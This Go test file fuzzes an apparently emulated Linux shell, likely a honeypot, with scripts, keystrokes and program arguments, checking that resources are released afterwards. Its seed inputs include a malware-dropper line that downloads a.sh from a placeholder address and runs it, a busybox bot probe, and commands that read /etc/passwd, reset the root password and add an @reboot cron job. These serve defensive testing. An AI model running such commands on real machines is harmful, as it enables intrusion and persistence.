package shell

import (
	"bytes"
	"context"
	"io"
	"strings"
	"testing"
	"time"
)

// fuzzLimit is how long one input may run.
const fuzzLimit = 150 * time.Millisecond

func fuzzShell(t testing.TB) *Shell {
	return newBox(t, "debian", Options{Quota: 1 << 20}).login("root", "192.0.2.7:4711")
}

// settled checks that nothing is accounted for any more and that the process still works.
func settled(t *testing.T, sh *Shell) {
	t.Helper()
	if n := sh.memory.Load(); n != 0 {
		t.Fatalf("%d bytes are still accounted for", n)
	}
	if n := sh.procs.Load(); n != 0 {
		t.Fatalf("%d processes are still accounted for", n)
	}
}

func FuzzExec(f *testing.F) {
	for _, s := range []string{
		"uname -a; id", "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh", "for i in {1..3}; do echo ${i##*x} $((i<<2)); done",
		"cat <<'E' | tr a-z A-Z\nx\nE", "a=(1 2); a[5]=x; echo ${!a[@]} ${a[@]:1:2} ${a[-1]}", "case $1 in [a-c]*|?) ;; esac", "f(){ local x; return 2; }; f || echo $?",
		"[[ a =~ ^(.)b ]] && echo ${BASH_REMATCH[1]}", "x=$(printf '%s\\n' a b | sort -r | head -n1) && echo \"$x\" >> /tmp/y 2>&1", "trap 'echo t' EXIT ERR; false; exec 3>&1 >&-", "read -r -a q <<< 'a b'; set -- ${q[@]}; shift; getopts ab: o -a -b c",
		"echo -e '\\x41\\0101\\c'; printf '%-5s|%05d|%x|%b|%q\\n' a 1 255 '\\t' 'a b'", "/bin/busybox ECCHI; busybox sh -c 'echo x'", "find / -maxdepth 1 -name '*t*' -o -type d -prune | xargs -I{} echo {}",
		"awk -F: '{n[$7]++} END{for(k in n)print k,n[k]}' /etc/passwd", "sed -n -e '/a/,/b/{s/\\(x\\)/[\\1]/gp;d}' /etc/passwd", "tar cf - /etc/hosts | tar tvf -", "cat < <(echo a) > >(cat)", "\x00\xff${", "echo ${x:-${y:=z}} ${x^^} ${x//a/b} ${#x}",
		"cp /etc/passwd /tmp/p; mv /tmp/p /tmp/q; ln -s q /tmp/l; cat /tmp/l; rm -r /tmp/*", "ps aux; ss -tan; ip a; last; top -bn1; systemctl status ssh", "dd if=/dev/urandom bs=1 count=20 | od -c | tail -n +2", "su -c 'id' nobody; sudo -u root id; env -i A=b env",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		sh := fuzzShell(t)
		ctx, cancel := context.WithTimeout(t.Context(), fuzzLimit)
		defer cancel()
		sh.Exec(ctx, script, Stdio{In: strings.NewReader("one\ntwo\n"), Out: io.Discard, Err: io.Discard})
		settled(t, sh)
	})
}

func FuzzScript(f *testing.F) {
	f.Add("echo a\nif true\nthen echo b\nfi\n", "debian")
	f.Add("cat <<E\nx\nE\nread y\nz\n", "alpine")
	f.Add("echo 'open", "kali")
	f.Fuzz(func(t *testing.T, script, distro string) {
		sh := newBox(t, distro, Options{Quota: 1 << 20}).login("root", "192.0.2.7:4711")
		ctx, cancel := context.WithTimeout(t.Context(), fuzzLimit)
		defer cancel()
		sh.Script(ctx, Stdio{In: strings.NewReader(script), Out: io.Discard, Err: io.Discard})
		settled(t, sh)
	})
}

// typist types and then hangs up.
type typist struct {
	io.Reader
	io.Writer
}

func FuzzInteractive(f *testing.F) {
	for _, s := range []string{"ls\r", "echo a\x1b[D\x1b[Db\r\x1b[A\r", "\x03\x15\x17\x0b\x19\x0c\t\t\r", "cat\rabc\x7f\x04exit\r", "\x1b[200~ls\nid\x1b[201~\r", "'\r\x03\x04", "passwd\ra\rb\r", "\xc3\xa4\x7f\xff\r", "!!\r!ls\r!5\rhistory\r", "su\rexit\rlogout\r"} {
		f.Add([]byte(s), "xterm", 80, 24)
	}
	f.Fuzz(func(t *testing.T, keys []byte, term string, width, height int) {
		sh := fuzzShell(t)
		ctx, cancel := context.WithTimeout(t.Context(), fuzzLimit)
		defer cancel()
		sh.Interactive(ctx, Terminal{term, width, height}, typist{bytes.NewReader(keys), io.Discard})
		settled(t, sh)
	})
}

// FuzzPrograms gives hostile arguments and input to the programs with a grammar of their own.
func FuzzPrograms(f *testing.F) {
	f.Add("awk", "{print $1; x[$2]+=NR} END{printf \"%d\\n\", length(x)}", []byte("a b\nc d\n"))
	f.Add("sed", "1,3{/x/!s/a\\(b\\)*/&\\1/2gw /tmp/o\ny/a/b/;$d;a\\\nq\n}", []byte("abab\n"))
	f.Add("grep", "-oE ^(a|b)+[[:digit:]]{1,3}$", []byte("ab1\n"))
	f.Add("find", "/etc ( -name p* -o -size +1k ) -perm -4000 ! -type d -printf %p\\n", []byte(""))
	f.Add("date", "-d @1 +%Y-%j-%s-%N%%", []byte(""))
	f.Add("tar", "xzvf - -C /tmp", []byte("\x1f\x8b"))
	f.Add("cut", "-d: -f1,3-,-2", []byte("a:b:c\n"))
	f.Add("sort", "-t: -k3,3nr -u", []byte("a:b:1\n"))
	f.Add("xxd", "-r -p", []byte("4142"))
	f.Add("chmod", "u=rwx,g+s,o-X /tmp", []byte(""))
	f.Add("dd", "bs=1k count=3 skip=1 conv=notrunc of=/tmp/x", []byte("abc"))
	f.Add("tr", "-cs [:alnum:] \\n", []byte("a b"))
	f.Add("expr", "abc : a\\(.\\)", []byte(""))
	f.Add("crontab", "-", []byte("* * * * * x\n@reboot y\n"))
	f.Add("chpasswd", "", []byte("root:x\nbad\n"))
	f.Add("xargs", "-n 2 -I {} echo {}", []byte("a 'b c' \\d"))
	f.Add("column", "-t -s: -o | -N a,b", []byte("a::b\nc\n"))
	f.Add("paste", "-s -d \\t, -", []byte("a\nb\n"))
	f.Add("fold", "-s -w 3", []byte("ab cd\xff\n"))
	f.Add("unexpand", "-t 4", []byte("  \t a\n"))
	f.Add("split", "-b 3 -d -", []byte("abcdefg"))
	f.Add("truncate", "-s %4 /tmp/x", []byte(""))
	f.Add("timeout", "-s KILL 0.01 cat", []byte("a"))
	f.Add("perl", "-e print\x20\"a\";", []byte(""))
	f.Add("base32", "-d", []byte("ME======"))
	f.Fuzz(func(t *testing.T, name, args string, input []byte) {
		sh := fuzzShell(t)
		if _, ok := sh.m.programs[name]; !ok {
			t.Skip("no such program")
		}
		ctx, cancel := context.WithTimeout(t.Context(), fuzzLimit)
		defer cancel()
		in := sh.shell(ctx, "bash", "c", Stdio{In: bytes.NewReader(input)})
		argv := append([]string{name}, strings.Split(args, " ")...)
		if name == "awk" || name == "sed" {
			argv = []string{name, args}
		}
		sh.start(in, func() { in.status = in.program(name, argv) })
		settled(t, sh)
	})
}
